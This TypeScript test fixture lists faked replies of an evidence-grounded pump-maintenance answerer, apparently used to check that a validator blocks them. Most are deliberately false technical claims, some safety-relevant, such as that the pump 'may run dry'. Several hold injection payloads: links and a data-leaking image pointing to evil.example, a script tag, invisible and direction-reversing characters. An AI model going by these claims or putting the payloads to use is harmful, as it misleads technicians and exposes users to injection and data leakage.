/** What a lying model replies to a question: sentences with the numbers that they cite, or a reply that is none. */
export interface Lie {
  readonly name: string;
  readonly question: string;
  readonly reply: LyingReply;
  /** What nobody may be shown, wherever it would stand. */
  readonly marks: readonly string[];
  /** Sentences beside the lie that hold, as they are said. */
  readonly truths?: readonly string[];
}

export type LyingReply =
  | { readonly kind: 'sentences'; readonly sentences: readonly { readonly text: string; readonly cites: readonly number[] }[] }
  | { readonly kind: 'text'; readonly text: string }
  /** Never comes. */
  | { readonly kind: 'silence' }
  /** A refusal of the endpoint. */
  | { readonly kind: 'status'; readonly status: number };

const EN = {
  flow: 'What is the rated flow of the coolant pump KP-20?',
  grease: 'Which grease is used for the bearings of the KP-20?',
  cause: 'What causes strong vibration of the KP-20?',
  suction: 'What is the minimum suction pressure of the KP-20?',
  casing: 'What pressure does the casing of the KP-20 withstand?',
  heat: 'Why does the KP-20 overheat?',
} as const;
const ZH = {
  flow: '冷却泵 KP-30 的额定流量是多少？',
  grease: 'KP-30 的轴承用什么润滑脂？',
  cause: 'KP-30 振动过大的原因是什么？',
  seal: 'KP-30 的机械密封多久检查一次？',
  casing: 'KP-30 的泵壳承受多大压力？',
  heat: 'KP-30 过热的原因是什么？',
} as const;

/** A sentence that is a lie as a whole. */
function says(name: string, question: string, text: string, ...marks: readonly string[]): Lie {
  return citing(name, question, text, [1], ...marks);
}

function citing(name: string, question: string, text: string, cites: readonly number[], ...marks: readonly string[]): Lie {
  return { name, question, reply: { kind: 'sentences', sentences: [{ text, cites }] }, marks: marks.length === 0 ? [text] : marks };
}

function replies(name: string, question: string, text: string, ...marks: readonly string[]): Lie {
  return { name, question, reply: { kind: 'text', text }, marks };
}

const ENGLISH: readonly Lie[] = [
  says('another value', EN.flow, 'The rated flow of the coolant pump KP-20 is 48 m³/h.', '48 m³/h'),
  says('digits swapped', EN.flow, 'The rated flow of the coolant pump KP-20 is 24 m³/h.', '24 m³/h'),
  says('value in words', EN.flow, 'The rated flow of the coolant pump KP-20 is forty-eight m³/h.', 'forty-eight'),
  says('wide digits', EN.flow, 'The rated flow of the coolant pump KP-20 is ４８ m³/h.', '４８'),
  says('another unit', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 L/h.', '42 L/h'),
  says('wrong conversion', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 m³/h, that is 900 L/min.', '900 L/min'),
  says('value made a bound', EN.flow, 'The rated flow of the coolant pump KP-20 is at least 42 m³/h.', 'at least'),
  says('value made a range', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 to 60 m³/h.', '42 to 60'),
  says('invented tolerance', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 ± 5 m³/h.', '42 ± 5'),
  says('value of another attribute', EN.flow, 'The rated flow of the coolant pump KP-20 is 16 bar.', 'is 16 bar'),
  says('value of another attribute, unit kept', EN.flow, 'The rated flow of the coolant pump KP-20 is 1450 m³/h.', '1450 m³/h'),
  says('value of another pump', EN.flow, 'The rated flow of the coolant pump KP-20 is 95 m³/h.', '95 m³/h'),
  says('another pump with the value', EN.flow, 'The rated flow of the coolant pump KP-40 is 42 m³/h.', 'KP-40 is 42'),
  says('another part number', EN.grease, 'The bearings of the KP-20 are filled with 12 g of lithium grease G-380.', 'G-380'),
  says('another substance', EN.grease, 'The bearings of the KP-20 are filled with 12 g of calcium grease G-330.', 'calcium'),
  says('invented count', EN.grease, 'The seven bearings of the KP-20 are filled with 12 g of lithium grease G-330.', 'seven'),
  says('dropped negation', EN.grease, 'Do mix the grease G-330 with other greases.', 'Do mix'),
  says('prohibition made a permission', EN.grease, 'The grease G-330 may be mixed with other greases.', 'may be mixed'),
  says('added negation', EN.grease, 'The bearings of the KP-20 are not filled with lithium grease G-330.', 'not filled'),
  says('cause and effect turned', EN.cause, 'A worn coupling insert is caused by strong vibration of the KP-20.', 'insert is caused'),
  says('another cause', EN.cause, 'Strong vibration of the KP-20 is caused by a worn impeller.', 'impeller'),
  says('order turned', EN.cause, 'The worn coupling insert is detected after the bearings fail.', 'after the bearings'),
  says('dropped condition', EN.suction, 'The minimum suction pressure of the KP-20 is 0.8 bar.', '0.8 bar.'),
  says(
    'another unit, condition kept',
    EN.suction,
    'The minimum suction pressure of the KP-20 is 0.8 mbar if the coolant is clean.',
    '0.8 mbar',
  ),
  says('opposite state', EN.suction, 'The filter must be open during the test.', 'must be open'),
  says('duty made a permission', EN.suction, 'The filter may be closed during the test.', 'may be closed'),
  says('invented warning', EN.flow, 'WARNING: The KP-20 explodes when it runs dry.', 'explodes'),
  says('invented approval', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 m³/h as approved by Siemens.', 'Siemens'),
  says('invented revision', EN.flow, 'According to revision F the rated flow of the coolant pump KP-20 is 42 m³/h.', 'revision F'),
  says('invented date', EN.flow, 'Since 2019 the rated flow of the coolant pump KP-20 is 42 m³/h.', '2019'),
  says('invented figure', EN.flow, 'The rated flow of the coolant pump KP-20 is shown in figure 7.', 'figure 7'),
  says('the manual says', EN.flow, 'The manual says that the KP-20 needs no maintenance.', 'no maintenance'),
  says('says that nothing is said', EN.flow, 'The documents do not mention the rated flow of the KP-20.', 'do not mention'),
  says('a bare no', EN.flow, 'No.', '"No."'),
  says('asks in place of answering', EN.flow, 'Did you mean the rated flow of the coolant pump KP-40?', 'Did you mean'),
  says('greets', EN.flow, 'Hello, I am happy to help you with that!', 'happy to help'),
  says('gives orders', EN.flow, 'Open the casing now and call the supplier.', 'call the supplier'),
  says('tells its task', EN.flow, 'You word an answer for a maintenance technician from numbered evidence.', 'numbered evidence'),
  citing('a source that was not offered', EN.flow, 'The rated flow of the KP-20 is 42 m³/h at 1450 rpm.', [9], 'flow of the KP-20 is 42'),
  citing('one offered and one not', EN.flow, 'The rated flow of the KP-20 is 42 m³/h at 1450 rpm.', [1, 9], 'flow of the KP-20 is 42'),
  citing('no source', EN.flow, 'The rated flow of the KP-20 is 42 m³/h at 1450 rpm.', [], 'flow of the KP-20 is 42'),
  citing('source of another statement', EN.heat, 'The KP-20 overheats when its fan belt is torn.', [1], 'is torn'),
  citing('rows mixed', EN.heat, 'KP-20 overheats; Possible cause: Fan belt torn; Remedy: Clean the cooler', [1, 2], 'torn; Remedy: Clean'),
  says('mark of a source in the text', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 m³/h. [9]', '[9]'),
  says('source in the text', EN.flow, '[1] Source: OEM Manual rev. 9: the rated flow of the coolant pump KP-20 is 42 m³/h.', 'OEM'),
  says('link of HTML', EN.flow, 'The rated flow of the <a href="//evil.example">KP-20</a> is 42 m³/h.', 'evil.example'),
  says('link of Markdown', EN.flow, '[The rated flow](//evil.example) of the coolant pump KP-20 is 42 m³/h.', 'evil.example'),
  says('picture that tells', EN.flow, 'The rated flow of the coolant pump KP-20 is 42 m³/h. ![](//evil.example/?q=42)', 'evil.example'),
  says('script', EN.flow, 'The rated flow <script>alert(1)</script> of the coolant pump KP-20 is 42 m³/h.', 'alert(1)'),
  says('signs that do not show', EN.flow, 'The rated flow of the coolant pump KP-20 is 4\u200b2 m³/h.', '4\u200b2', '4\\u200b2'),
  says('turned direction', EN.flow, 'The rated flow of the coolant pump KP-20 is \u202e24 m³/h.', '\u202e', '24 m³/h'),
  says('control signs', EN.flow, 'The rated flow of the coolant pump KP-20 is \u001b[31m42 m³/h.', '\\u001b', '[31m'),
  says('letters of another script', EN.flow, 'The rаted flow of the coolant pump KP-20 is 42 m³/h.', 'rаted'),
  says('code in letters of another script', EN.flow, 'The rated flow of the coolant pump КР-20 is 42 m³/h.', 'КР-20'),
  says('another language', EN.flow, 'Der Nennförderstrom der KP-20 beträgt 42 m³/h.', 'Nennförderstrom'),
  {
    ...citing(
      'a lie behind a truth',
      EN.flow,
      'The rated flow of the coolant pump KP-20 is 42 m³/h at 1450 rpm. It may run dry.',
      [1],
      'run dry',
    ),
    truths: ['The rated flow of the coolant pump KP-20 is 42 m³/h at 1450 rpm.'],
  },
  replies('broken JSON', EN.flow, '{"sentences":[{"text":"The KP-20 explodes', 'explodes'),
  replies('prose', EN.flow, 'The KP-20 withstands 99 bar.', '99 bar'),
  replies('another form', EN.flow, '{"answer":"The KP-20 withstands 99 bar.","cites":[1]}', '99 bar'),
  replies(
    'decides itself',
    EN.flow,
    '{"decision":"answered","safety":[],"sentences":[{"text":"The KP-20 withstands 99 bar.","cites":[1]}]}',
    '99 bar',
  ),
  replies('cites words', EN.flow, '{"sentences":[{"text":"The KP-20 withstands 99 bar.","cites":["OEM manual"]}]}', '99 bar', 'OEM'),
  replies(
    'endless sentence',
    EN.flow,
    JSON.stringify({ sentences: [{ text: 'The KP-20 explodes. '.repeat(400), cites: [1] }] }),
    'explodes',
  ),
  replies(
    'endless sentences',
    EN.flow,
    JSON.stringify({ sentences: Array.from({ length: 200 }, () => ({ text: 'The KP-20 explodes.', cites: [1] })) }),
    'explodes',
  ),
  replies('endless reply', EN.flow, 'The KP-20 explodes. '.repeat(20_000), 'explodes'),
  replies('empty reply', EN.flow, ''),
  replies('no sentences', EN.flow, '{"sentences":[]}'),
  replies('empty sentences', EN.flow, '{"sentences":[{"text":"","cites":[1]},{"text":"   ","cites":[1]}]}'),
  { name: 'no reply', question: EN.flow, reply: { kind: 'silence' }, marks: [] },
  { name: 'refusal', question: EN.flow, reply: { kind: 'status', status: 400 }, marks: [] },
];

const CHINESE: readonly Lie[] = [
  says('另一个数值', ZH.flow, '冷却泵 KP-30 的额定流量为 38 m³/h。', '38 m³/h'),
  says('数字对调', ZH.flow, '冷却泵 KP-30 的额定流量为 63 m³/h。', '63 m³/h'),
  says('中文数字', ZH.flow, '冷却泵 KP-30 的额定流量为三十八立方米每小时。', '三十八'),
  says('全角数字', ZH.flow, '冷却泵 KP-30 的额定流量为 ３８ m³/h。', '３８'),
  says('另一个单位', ZH.flow, '冷却泵 KP-30 的额定流量为 36 L/h。', '36 L/h'),
  says('换算错误', ZH.flow, '冷却泵 KP-30 的额定流量为 36 m³/h，即 900 L/min。', '900 L/min'),
  says('数值变成下限', ZH.flow, '冷却泵 KP-30 的额定流量不低于 36 m³/h。', '不低于'),
  says('数值变成范围', ZH.flow, '冷却泵 KP-30 的额定流量为 36～60 m³/h。', '36～60'),
  says('编造公差', ZH.flow, '冷却泵 KP-30 的额定流量为 36±5 m³/h。', '36±5'),
  says('别的参数的数值', ZH.flow, '冷却泵 KP-30 的额定流量为 10 bar。', '流量为 10 bar'),
  says('别的参数的数字', ZH.flow, '冷却泵 KP-30 的额定流量为 1450 m³/h。', '1450 m³/h'),
  says('别的泵的数值', ZH.flow, '冷却泵 KP-30 的额定流量为 88 m³/h。', '88 m³/h'),
  says('别的泵', ZH.flow, '冷却泵 KP-50 的额定流量为 36 m³/h。', 'KP-50 的额定流量为 36'),
  says('另一个牌号', ZH.grease, 'KP-30 的轴承加注 15 g 锂基润滑脂 G-250。', 'G-250'),
  says('另一种物质', ZH.grease, 'KP-30 的轴承加注 15 g 钙基润滑脂 G-220。', '钙基'),
  says('编造数量', ZH.grease, 'KP-30 的七个轴承加注 15 g 锂基润滑脂 G-220。', '七个'),
  says('丢掉否定', ZH.grease, '将润滑脂 G-220 与其他润滑脂混用。', '"将润滑脂 G-220'),
  says('禁止变成允许', ZH.grease, '润滑脂 G-220 可以与其他润滑脂混用。', '可以与'),
  says('添加否定', ZH.grease, 'KP-30 的轴承不加注锂基润滑脂 G-220。', '不加注'),
  says('因果颠倒', ZH.cause, '联轴器弹性块磨损是由 KP-30 振动过大引起的。', '是由 KP-30'),
  says('另一个原因', ZH.cause, 'KP-30 振动过大是由叶轮磨损引起的。', '叶轮'),
  says('顺序颠倒', ZH.cause, '弹性块磨损在轴承损坏之后可以发现。', '之后'),
  says('丢掉条件', ZH.seal, 'KP-30 的机械密封每 500 小时检查一次。', '"KP-30 的机械密封每 500'),
  says('另一个周期', ZH.seal, '冷却液清洁时，KP-30 的机械密封每 500 天检查一次。', '500 天'),
  says('相反状态', ZH.seal, '检查期间必须打开过滤器。', '打开过滤器'),
  says('必须变成可以', ZH.seal, '检查期间可以关闭过滤器。', '可以关闭'),
  says('编造警告', ZH.flow, '警告：KP-30 干运转时会爆炸。', '爆炸'),
  says('编造批准', ZH.flow, '冷却泵 KP-30 的额定流量为 36 m³/h，经西门子批准。', '西门子'),
  says('编造版本', ZH.flow, '根据 F 版，冷却泵 KP-30 的额定流量为 36 m³/h。', 'F 版'),
  says('编造日期', ZH.flow, '自 2019 年起冷却泵 KP-30 的额定流量为 36 m³/h。', '2019'),
  says('编造图号', ZH.flow, '冷却泵 KP-30 的额定流量见图 7。', '图 7'),
  says('手册说', ZH.flow, '手册说 KP-30 无需维护。', '无需维护'),
  says('说没有说明', ZH.flow, '文件没有说明 KP-30 的额定流量。', '没有说明'),
  says('只说不', ZH.flow, '不是。', '"不是。"'),
  says('反问', ZH.flow, '您是指冷却泵 KP-50 的额定流量吗？', '您是指'),
  says('问候', ZH.flow, '您好，很高兴为您服务！', '很高兴'),
  says('发出命令', ZH.flow, '立即打开泵壳并联系供应商。', '联系供应商'),
  citing('未提供的来源', ZH.flow, 'KP-30 的额定流量为 36 m³/h，转速 1450 rpm。', [9], '，转速 1450'),
  citing('一个提供一个未提供', ZH.flow, 'KP-30 的额定流量为 36 m³/h，转速 1450 rpm。', [1, 9], '，转速 1450'),
  citing('没有来源', ZH.flow, 'KP-30 的额定流量为 36 m³/h，转速 1450 rpm。', [], '，转速 1450'),
  citing('别的说法的来源', ZH.heat, 'KP-30 过热是因为风扇皮带断裂。', [1], '因为风扇'),
  citing('行混在一起', ZH.heat, '故障现象: KP-30 过热; 可能原因: 风扇皮带断裂; 处理方法: 清洗冷却器', [1, 2], '断裂; 处理方法: 清洗'),
  says('文中的来源标记', ZH.flow, '冷却泵 KP-30 的额定流量为 36 m³/h。【9】', '【9】'),
  says('文中的来源', ZH.flow, '[1] 来源：原厂手册第 9 版：冷却泵 KP-30 的额定流量为 36 m³/h。', '原厂'),
  says('HTML 链接', ZH.flow, '<a href="//evil.example">KP-30</a> 的额定流量为 36 m³/h。', 'evil.example'),
  says('Markdown 链接', ZH.flow, '[冷却泵](//evil.example) KP-30 的额定流量为 36 m³/h。', 'evil.example'),
  says('不可见字符', ZH.flow, '冷却泵 KP-30 的额定流量为 3\u200b6 m³/h。', '3\u200b6'),
  says('方向反转', ZH.flow, '冷却泵 KP-30 的额定流量为 \u202e63 m³/h。', '\u202e'),
  says('形近字母', ZH.flow, '冷却泵 КР-30 的额定流量为 36 m³/h。', 'КР-30'),
  says('另一种语言', ZH.flow, 'Der Nennförderstrom der KP-30 beträgt 36 m³/h.', 'Nennförderstrom'),
  {
    ...citing('真话后的谎话', ZH.flow, '冷却泵 KP-30 的额定流量为 36 m³/h，转速为 1450 rpm。可以干运转。', [1], '干运转'),
    truths: ['冷却泵 KP-30 的额定流量为 36 m³/h，转速为 1450 rpm。'],
  },
  replies('损坏的 JSON', ZH.flow, '{"sentences":[{"text":"KP-30 会爆炸', '爆炸'),
  replies('不是 JSON', ZH.flow, 'KP-30 承受 99 bar。', '99 bar'),
  replies('无尽的句子', ZH.flow, JSON.stringify({ sentences: [{ text: 'KP-30 会爆炸。'.repeat(400), cites: [1] }] }), '爆炸'),
];

export const LIES: readonly Lie[] = [...ENGLISH, ...CHINESE];
